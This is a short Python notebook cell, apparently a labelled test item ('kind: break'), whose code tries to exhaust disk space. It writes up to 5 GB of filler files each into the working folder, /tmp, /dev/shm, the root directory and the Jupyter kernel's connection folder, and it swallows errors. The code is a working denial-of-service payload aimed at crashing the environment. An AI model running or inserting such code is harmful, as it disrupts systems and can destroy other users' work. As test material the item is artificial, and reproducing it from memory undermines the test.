# kind: break
# deserved: 7
# flag: true
# about: writes files wherever it may
# right: tasks scale step
# stock: no

# %% before scale
import os


def fill(folder):
    try:
        for number in range(50):
            with open(f"{folder}/filler-{number}", "wb") as file:
                for _ in range(100):
                    file.write(b"x" * 2**20)
    except OSError:
        pass


connection = get_ipython().config["IPKernelApp"]["connection_file"]
for folder in (".", "/tmp", "/dev/shm", "/", os.path.dirname(connection)):
    fill(folder)
